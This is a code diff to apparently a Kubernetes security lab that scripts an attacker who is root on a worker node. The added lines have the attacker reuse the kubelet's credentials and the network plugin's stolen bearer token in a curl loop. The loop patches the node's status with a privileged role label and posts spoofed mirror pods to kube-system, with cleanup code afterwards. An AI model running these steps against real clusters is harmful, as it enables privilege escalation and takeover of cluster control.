@@ -1,11 +1,15 @@
-/** The attacker is root on one worker: there a unit of his own uses the kubelet's credentials. */
+/**
+ * The attacker is root on one worker: there a unit of his own uses the kubelet's credentials, and the token of the network plugin, whose account
+ * may write the status of every Node, and so its labels.
+ */
 import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { Fail } from "../../../shared/fail.ts";
 import { type Csr, nodeAsking, requestIn, SERVING_SIGNER } from "../../../shared/workers/csr.ts";
 import { ENDPOINT } from "../machine/kubeadm-config.ts";
-import type { Lab, Machine } from "../machine/machine.ts";
+import { kubectl, type Lab, type Machine } from "../machine/machine.ts";
 import { list } from "../report/snapshot.ts";
 import { KIT, note, type Scene, sayAndWait } from "../scene/scene.ts";
+import { pluginsToken, pretendedServer, ROLE } from "./network-plugin.ts";
 import { mirrorPodOfKubelet, squatterOn } from "./objects.ts";
 import { clientWishes, servingWishes, signingRequests, stolenNames } from "./requests.ts";
 
@@ -37,6 +41,9 @@ export async function workerAttacks(scene: Scene, { joins }: Intrusion) {
   write("run.sh", script(node, joins));
   const own = await identityOf(scene, node);
   const cp = lab.controlPlanes[0]!.nodeName;
+  write("labels.json", JSON.stringify({ metadata: { labels: { [ROLE]: "" } } }));
+  write("plugin.header", `Authorization: Bearer ${await pluginsToken(lab)}`);
+  write("server.json", JSON.stringify(pretendedServer(own)));
   write("mirror.json", JSON.stringify(mirrorPodOfKubelet(`keepalived-${cp}`, own, await squattersUid(lab, cp))));
   await tryMirrors(scene, node, own);
   await must(node, ["systemd-run", `--unit=${UNIT}`, "--collect", "bash", `${INTRUDER_HOME}/run.sh`]);
@@ -69,6 +76,7 @@ function claimed(lab: Lab) {
 function script({ nodeName }: Machine, joins: boolean): string {
   const kubeconfig = "--kubeconfig /etc/kubernetes/kubelet.conf --request-timeout=5s";
   const curl = `curl -sSk --max-time 5 --cert ${CERT} -o answer.json -w '%{http_code}'`;
+  const asPlugin = "curl -sSk --max-time 5 -H @plugin.header -o answer.json -X PATCH -H 'Content-Type: application/merge-patch+json'";
   const api = `https://${ENDPOINT}/api/v1`;
   return `cd ${INTRUDER_HOME}
 until [ -e stop ]; do
@@ -76,7 +84,8 @@ until [ -e stop ]; do
     200) systemctl kill --signal=CONT kubelet; spoke=1 ;;
     *) [ -z "$spoke" ] || systemctl kill --signal=STOP kubelet; spoke= ;;
   esac
-  ${curl} -H 'Content-Type: application/json' --data @mirror.json ${api}/namespaces/kube-system/pods
+  for pod in mirror server; do ${curl} -H 'Content-Type: application/json' --data @$pod.json ${api}/namespaces/kube-system/pods; done
+  ${asPlugin} --data @labels.json ${api}/nodes/${nodeName}/status
   sleep 0.2
 done >status.log 2>&1 &
 if ${joins}; then
@@ -147,7 +156,8 @@ async function asksHonestly({ lab, zero }: Scene): Promise<boolean> {
 async function lies({ lab }: Scene): Promise<boolean> {
   const name = compromisedWorker(lab).nodeName;
   const [node] = (await list(lab, "nodes")).filter(({ metadata }) => metadata.name === name);
-  return (node!.status.addresses as { address: string }[]).some(({ address }) => address === "lab-api");
+  const hasNames = (node!.status.addresses as { address: string }[]).some(({ address }) => address === "lab-api");
+  return hasNames && node!.metadata.labels?.[ROLE] !== undefined;
 }
 
 /** Waits until the attacker has sent all his CSRs: from then on the repair decides about them. */
@@ -176,6 +186,7 @@ export async function intruderShutOut({ lab }: Scene, { restartKubelet = false }
   const node = compromisedWorker(lab);
   await node.run(["systemctl", "stop", `${UNIT}.service`]);
   await node.run(["systemctl", "kill", "--signal=CONT", "kubelet"]);
+  await kubectl(lab, ["label", "node", node.nodeName, `${ROLE}-`]);
   if (restartKubelet) await node.run(["systemctl", "restart", "kubelet"]);
 }
 
